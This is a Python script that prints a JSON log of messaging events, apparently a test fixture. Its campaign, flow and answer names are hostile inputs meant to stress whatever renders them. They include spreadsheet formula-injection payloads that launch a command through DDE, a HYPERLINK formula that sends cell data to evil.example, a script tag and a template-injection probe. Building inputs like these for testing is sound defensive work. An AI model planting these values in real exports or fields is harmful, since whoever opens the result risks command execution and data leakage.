#!/usr/bin/env python3
"""Prints a log whose campaigns, flows, questions, templates and answers have names made to harm whatever shows them."""

import json

NAMES = [
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+49 151 0000000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r\n=1+1",
    "a;=HYPERLINK(\"https://evil.example/?\"&A1;\"open\")",
    "<script>alert(1)</script>",
    "\"quoted\", 'twice'",
    "x" * 10_000,
    "🦀" * 20_000,
    "\u202egnihton\u202c",
    "عروض الربيع للعملاء الجدد",
    "春节促销活动",
    "👩‍👩‍👧‍👦 family",
    "{{ 7 * 7 }} %s \\N [link](https://evil.example/)",
    "zero\0byte and \u0001 control",
    "n/a",
    "(unknown)",
    " ",
]


def main():
    number = 0

    def write(kind, second, **fields):
        nonlocal number
        number += 1
        minute, second = divmod(second, 60)
        event = {"kind": kind, "at": f"2026-03-02T08:{minute:02}:{second:02}Z", "channel": "generic", **fields}
        print(json.dumps(event))

    for place, name in enumerate(NAMES):
        for contact in range(4):
            who = {"contact_id": f"c-{place}-{contact}", "campaign": name, "template": name}
            message = {"message_id": f"m-{place}-{contact}", **who}
            write("message_sent", 0, **message)
            write("message_delivered", 2, **message)
            if contact < 3:
                write("message_opened", 5, **message)
            asked = {"flow": name, "question": name, **who}
            write("question_asked", 10, **asked, message_id=f"q-{place}-{contact}")
            if contact < 2:
                write("question_answered", 20, **asked, answer=name)
            if contact == 3:
                write("opted_out_soft", 30, contact_id=who["contact_id"], topic=name)


main()
